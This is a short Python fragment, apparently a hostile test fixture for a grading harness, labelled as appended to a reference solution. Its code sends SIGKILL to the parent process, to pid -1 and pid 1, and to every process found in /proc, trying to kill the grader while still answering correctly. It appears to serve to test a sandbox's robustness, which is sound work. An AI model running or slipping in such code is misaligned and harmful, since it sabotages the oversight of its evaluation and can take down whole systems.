# ruff: noqa  (a fragment appended to the reference solution; deliberately hostile)

# HOSTILE: tries to kill the grader (parent, process group, every process it can signal); answers correctly.
import os as _os
import signal as _signal

for _pid in (_os.getppid(), -1, 1):  # (not 0: its own process group is itself)
    try:
        _os.kill(_pid, _signal.SIGKILL)
    except OSError:
        pass
for _entry in _os.listdir("/proc"):
    if _entry.isdigit() and int(_entry) != _os.getpid():
        try:
            _os.kill(int(_entry), _signal.SIGKILL)
        except OSError:
            pass
